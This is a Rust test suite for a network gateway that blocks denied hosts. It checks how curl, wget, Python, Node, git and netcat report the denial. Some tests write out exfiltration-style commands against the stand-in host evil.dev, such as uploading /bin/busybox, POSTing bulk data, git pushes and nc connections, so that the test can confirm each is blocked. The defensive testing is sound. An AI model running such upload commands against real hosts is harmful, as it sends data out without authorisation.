//! What real clients are told of a denial: with names that don't exist (`denied-names = "nxdomain"`,
//! the default), and with ones that lead to an address of the gateway's own (`"answer"`).

use serde_json::Value;
use test_support::bed::{Bed, unique};
use test_support::docker::{Container, engine_version, runtime};
use test_support::harness::Test;

use crate::filter::nothing_leaks_while;
use crate::servers::PROGRAMS;

/// Each with the program that not every system may have.
pub(crate) const TESTS: &[(&str, Test)] = &[
    ("curl", ("curl_prints_why_it_is_denied", curl)),
    ("wget", ("wget_says_that_it_is_denied", wget)),
    ("python3", ("python_reads_why_it_is_denied", python)),
    ("node", ("node_reads_why_it_is_denied", node)),
    ("git", ("git_prints_why_a_push_is_denied", git)),
    (
        "bash",
        (
            "a_denied_name_leads_only_to_the_gateway_and_some_names_nowhere",
            names,
        ),
    ),
    (
        "curl",
        ("a_client_in_an_internal_network_is_told_too", internal),
    ),
];

/// With [`TOLD`] in its settings.
const ANSWERS: &str = "boundary-answer";
const TOLD: &str = "Ask at #network.";

/// What a script with this machine's programs prints, its exit code last.
fn said(bed: &Bed, runtime: &str, script: &str) -> String {
    let script = format!("( {script} ) 2>&1; echo \"exit $?\"");
    let answer = bed.run_with(runtime, &PROGRAMS, &script);
    answer.must_succeed().stdout.clone()
}

fn curl(bed: &Bed) {
    let default = runtime();
    let visit = |url: &str| format!("curl -sS -m 5 -w ' %{{http_code}} %{{time_total}}\\n' {url}");
    for url in ["http://evil.dev/x", "https://evil.dev/x"] {
        let unknown = said(bed, &default, &visit(url));
        assert!(
            unknown.contains("Could not resolve host: evil.dev") && unknown.ends_with("exit 6\n"),
            "{unknown}"
        );
    }
    let page = said(bed, ANSWERS, &visit("http://evil.dev/x"));
    assert!(
        page.starts_with("{\"error\":\"denied: GET evil.dev/x: no rule allows it\""),
        "{page}"
    );
    assert!(page.contains(TOLD) && page.contains(" 403 0."), "{page}");
    let html = said(
        bed,
        ANSWERS,
        &visit("-H 'Accept: text/html' http://evil.dev/x"),
    );
    assert!(html.starts_with("<!DOCTYPE html>"), "{html}");
    // In TLS nothing can be said but the alert.
    let alert = said(bed, ANSWERS, &visit("https://evil.dev/x"));
    assert!(
        alert.contains("access denied") && alert.ends_with("exit 35\n"),
        "{alert}"
    );
    for upload in [
        "-T /bin/busybox",
        "-H 'Expect: 100-continue' -T /bin/busybox",
        "-X POST -d @/bin/busybox",
    ] {
        let page = said(bed, ANSWERS, &visit(&format!("{upload} http://evil.dev/x")));
        assert!(
            page.contains("evil.dev/x: no rule allows it") && page.ends_with("exit 0\n"),
            "{page}"
        );
    }
}

fn wget(bed: &Bed) {
    let script = "/usr/bin/wget -T 5 -t 1 -O - http://evil.dev/x";
    let unknown = said(bed, &runtime(), script);
    assert!(
        unknown.contains("unable to resolve host address") && unknown.ends_with("exit 4\n"),
        "{unknown}"
    );
    let denied = said(bed, ANSWERS, script);
    assert!(
        denied.contains("ERROR 403: Forbidden") && denied.ends_with("exit 8\n"),
        "{denied}"
    );
}

fn python(bed: &Bed) {
    let script = "cat >/tmp/s <<'END'
import urllib.request
try:
    urllib.request.urlopen('http://evil.dev/x', data=b'x' * 3000000, timeout=5)
except urllib.error.HTTPError as error:
    print(error.code, error.headers['x-boundary-reason'], error.read().decode())
except Exception as error:
    print(error)
END
/usr/bin/python3 /tmp/s";
    let unknown = said(bed, &runtime(), script);
    assert!(
        unknown.contains("Name or service not known") || unknown.contains("No address associated"),
        "{unknown}"
    );
    let denied = said(bed, ANSWERS, script);
    assert!(
        denied.starts_with("403 not_allowed {\"error\":\"denied: POST evil.dev/x: "),
        "{denied}"
    );
}

fn node(bed: &Bed) {
    let script = "/usr/bin/node -e '
fetch(\"http://evil.dev/x\").then(async (r) => console.log(r.status, (await r.json()).code)).catch((e) => console.log(e.cause.code))'";
    assert_eq!(said(bed, &runtime(), script), "ENOTFOUND\nexit 0\n");
    assert_eq!(said(bed, ANSWERS, script), "403 not_allowed\nexit 0\n");
}

/// From a neighbour that serves a repository: fetching is allowed, pushing not; and nothing of a name
/// that is denied.
fn git(bed: &Bed) {
    const SERVER: &str = r#"
import http.server, os, subprocess
class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = 'HTTP/1.1'
    def answer(self):
        length = int(self.headers.get('content-length') or 0)
        path, _, query = self.path.partition('?')
        env = dict(os.environ, GIT_PROJECT_ROOT='/srv', GIT_HTTP_EXPORT_ALL='1', REMOTE_USER='x', PATH_INFO=path,
                   QUERY_STRING=query, REQUEST_METHOD=self.command, CONTENT_TYPE=self.headers.get('content-type') or '',
                   CONTENT_LENGTH=str(length), GIT_PROTOCOL=self.headers.get('git-protocol') or '')
        run = subprocess.run(['git', 'http-backend'], input=self.rfile.read(length), env=env, capture_output=True)
        head, _, body = run.stdout.partition(b'\r\n\r\n')
        lines = [line.split(': ', 1) for line in head.decode().split('\r\n')]
        status = [int(value.split()[0]) for name, value in lines if name == 'Status']
        self.send_response(status[0] if status else 200)
        for name, value in lines:
            if name != 'Status':
                self.send_header(name, value)
        self.send_header('Content-Length', str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    do_GET = do_POST = answer
http.server.ThreadingHTTPServer(('', 8099), Handler).serve_forever()
"#;
    let serve = format!(
        "export HOME=/root; git init -q --bare /srv/r.git && git -C /srv/r.git config http.receivepack true && cat >/tmp/s <<'END'\n{SERVER}END\nexec /usr/bin/python3 /tmp/s"
    );
    let server = bed.start_with("runc", &PROGRAMS, &["sh", "-c", &serve]);
    let address = server.address();
    let script = format!(
        "export HOME=/root; until curl -fs -m 2 -o /dev/null http://{address}:8099/r.git/HEAD; do sleep 0.1; done
         git init -q /tmp/w && cd /tmp/w && git -c user.email=a@b.dev -c user.name=a commit -q --allow-empty -m x
         git ls-remote http://{address}:8099/r.git && echo fetched
         git push http://{address}:8099/r.git HEAD:refs/heads/x
         git push http://evil.dev/r.git HEAD:refs/heads/x
         git -c http.curloptResolve=evil.dev:80:198.51.100.20 push http://evil.dev/r.git HEAD:refs/heads/x"
    );
    let told = said(bed, "boundary-denials", &script);
    for expected in [
        "fetched\n".to_owned(),
        format!("remote: denied: POST {address}/r.git/git-receive-pack: no rule allows it"),
        "Could not resolve host: evil.dev".to_owned(),
        "remote: denied: GET evil.dev/r.git/info/refs: no rule allows it".to_owned(),
    ] {
        assert!(told.contains(&expected), "{expected}: {told}");
    }
    let nothing = server.exec("git -C /srv/r.git for-each-ref");
    assert_eq!(nothing.must_succeed().stdout, "");
}

fn names(bed: &Bed) {
    let network = unique("net");
    bed.docker(&["network", "create", &network]).must_succeed();
    let start = |flags: &[&str]| {
        let flags = [&PROGRAMS[..], flags].concat();
        bed.start_with(ANSWERS, &flags, &["sleep", "600"])
    };
    let container = start(&[]);
    nothing_leaks_while(bed, &container, || leads_nowhere(&container, false));
    leads_nowhere(&start(&["--network", &network]), false);
    leads_nowhere(&start(&["--dns-search", "corp.net"]), true);
    bed.docker(&["network", "rm", &network]).must_succeed();
}

fn leads_nowhere(container: &Container<'_>, searches: bool) {
    let has = |name: &str| {
        let script =
            format!("/usr/bin/getent ahosts {name} | grep STREAM | cut -d' ' -f1 | sort -u");
        container.exec(&script).stdout.replace('\n', " ")
    };
    assert!(
        has("evil.dev").contains("192.0.0.8 "),
        "{}",
        has("evil.dev")
    );
    for never in ["evil", "evil.test", "x.onion"] {
        assert_eq!(has(never), "", "{never}");
    }
    assert_eq!(has("evil.dev.corp.net").is_empty(), searches);
    // Whatever a client believes to be there: at once, on any port.
    for port in [22, 5432, 8443] {
        let answer = container.exec(&format!("nc -w 3 evil.dev {port} </dev/null"));
        answer.must_fail();
        assert!(answer.took.as_secs() < 3, "{answer:?}");
    }
    container.exec("echo hello | nc -u -w 1 evil.dev 443");
    // What is said there is judged like anywhere else.
    let allowed = container.exec("curl -sS -m 5 -H 'Host: allowed.test' http://evil.dev/");
    assert!(allowed.stdout.contains("I am allowed.test"), "{allowed:?}");
    let records = container.records();
    let is_the_lookup = |line: &Value| {
        let told = [&line["name"], &line["protocol"], &line["verdict"]];
        told.map(|field| field.as_str().unwrap_or_default()) == ["evil.dev", "dns", "deny"]
    };
    assert!(records.iter().any(is_the_lookup), "{records:#?}");
}

/// Nothing leads out of an internal network, but the way to the gateway is there, where Docker gives
/// it a default route. Before 26 it does; from then on, its resolver doesn't ask for names either.
fn internal(bed: &Bed) {
    let network = unique("net");
    bed.docker(&["network", "create", "--internal", &network])
        .must_succeed();
    let script = "curl -sS -m 5 http://evil.dev/";
    let answer = bed.run_with(ANSWERS, &["--network", &network], script);
    if engine_version().is_some_and(|version| version < 26) {
        let page = &answer.must_succeed().stdout;
        assert!(page.contains("evil.dev/: no rule allows it"), "{page}");
    } else {
        assert_eq!(answer.code, 6, "{answer:?}");
    }
    bed.docker(&["network", "rm", &network]).must_succeed();
}
